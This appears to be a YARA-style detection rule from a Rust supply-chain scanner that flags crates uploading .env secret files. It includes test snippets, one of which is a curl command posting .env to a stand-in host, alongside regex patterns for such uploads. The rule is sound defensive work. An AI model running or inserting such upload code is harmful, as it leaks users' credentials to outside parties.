/*
A file of secrets handed to an upload. Reading .env is what many libraries are for; sending it is not.

```rust,match
pub fn check() { Command::new("curl").args(["-F", "file=@.env", "http://drop.test/"]).status(); }
```
```rust,match
pub fn up() { let form = multipart::Form::new().file("f", "../.env").unwrap(); }
```
```rust,clean
pub fn load() { dotenv::from_filename(".env").ok(); }
```
```rust,clean
pub fn mail() -> &'static str { "someone@project.env" }
```
*/
rule dotenv_upload : high {
  meta:
    id = "8139cf58-5685-4f20-8160-0b0a494ce23b"
    description = "A .env file is sent"
    author = "Sandpit"
    date = "2026-11-25"
    status = "stable"
    scope = "crate"
    behaviours = "dotenv-upload"
    references = "incident 2026-03-10 chrono_anchor, RUSTSEC-2026-0030, T1048"
  strings:
    $at = /@([^"\s@]{0,60}\/)?\.env"/
    $part = /\.(file|part)\s?\(\s?"[^"\n]{1,40}"\s?,\s?"([^"\n]{0,60}\/)?\.env"/
    $read = /fs::read(_to_string)?\s?\(\s?"([^"\n]{0,60}\/)?\.env"\s?\)[^;]{0,40};[^;]{0,200}\.(post|put|send|body|write_all)\s?\(/
  condition:
    any of them
}
